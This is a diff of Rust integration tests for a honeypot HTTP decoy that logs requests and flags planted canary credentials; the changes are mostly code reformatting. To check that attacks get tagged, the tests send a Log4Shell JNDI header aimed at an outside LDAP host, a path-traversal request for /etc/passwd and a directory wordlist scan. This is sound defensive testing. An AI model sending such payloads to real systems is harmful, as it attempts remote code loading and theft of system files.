@@ -1,6 +1,7 @@
 //! The HTTP decoy (first part of the HTTP issue) with real curl: nginx's error pages
 //! byte for byte, every request stored, and planted canary URLs, bearer tokens and
 //! basic-auth passwords recognised.
+#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failed test, not a crashed decoy
 
 mod common;
 
@@ -88,7 +89,30 @@ fn exploit_patterns_and_wordlist_scanning_are_tagged() {
     let curl = |args: &[&str]| assert!(Command::new("curl").args(["-s", "-o", "/dev/null", "--path-as-is"]).args(args).status().unwrap().success());
     curl(&["-H", "X-Api-Version: ${jndi:ldap://198.51.100.7/a}", &format!("{base}/")]);
     curl(&[&format!("{base}/cgi-bin/../../../../etc/passwd")]);
-    for word in ["admin", "backup", "wp-admin", "phpmyadmin", "old", "test", "dev", "api", "console", "manager", "db", "sql", "dump", "temp", "tmp", "logs", "private", "secret", "config", "portal", "login", "setup"] {
+    for word in [
+        "admin",
+        "backup",
+        "wp-admin",
+        "phpmyadmin",
+        "old",
+        "test",
+        "dev",
+        "api",
+        "console",
+        "manager",
+        "db",
+        "sql",
+        "dump",
+        "temp",
+        "tmp",
+        "logs",
+        "private",
+        "secret",
+        "config",
+        "portal",
+        "login",
+        "setup",
+    ] {
         curl(&[&format!("{base}/{word}")]);
     }
     let db = hw.store();
@@ -110,7 +134,11 @@ fn aws_cli_with_a_planted_key_pointed_at_the_decoy_raises_a_token_hit() {
     let hw = Honeyward::start(dir.path(), &config(&http_decoy("web")));
     let addr = hw.addr("web");
     let endpoint = format!("http://{addr}");
-    let out = Command::new(BIN).args(["token", "create", "aws-key", "--label", "build box aws", "--endpoint", &endpoint, "--plant", "aws/credentials"]).current_dir(dir.path()).output().unwrap();
+    let out = Command::new(BIN)
+        .args(["token", "create", "aws-key", "--label", "build box aws", "--endpoint", &endpoint, "--plant", "aws/credentials"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
     assert!(out.status.success());
     std::thread::sleep(Duration::from_millis(1200));
     let aws = Command::new("aws")
@@ -139,7 +167,21 @@ fn the_ehr_portal_records_every_form_login_and_a_planted_password_raises_a_token
     let hw = Honeyward::start(dir.path(), &config(&decoy));
     let addr = hw.addr("ehr");
     let out = Command::new(BIN)
-        .args(["token", "create", "http-basic", "--label", "EHR login on ward PC", "--username", "dr.patel", "--password", "Quill-Harbor-Vexa72%", "--plant", "ward/.env", "--note", "ward 7 nurses' station"])
+        .args([
+            "token",
+            "create",
+            "http-basic",
+            "--label",
+            "EHR login on ward PC",
+            "--username",
+            "dr.patel",
+            "--password",
+            "Quill-Harbor-Vexa72%",
+            "--plant",
+            "ward/.env",
+            "--note",
+            "ward 7 nurses' station",
+        ])
         .current_dir(dir.path())
         .output()
         .unwrap();
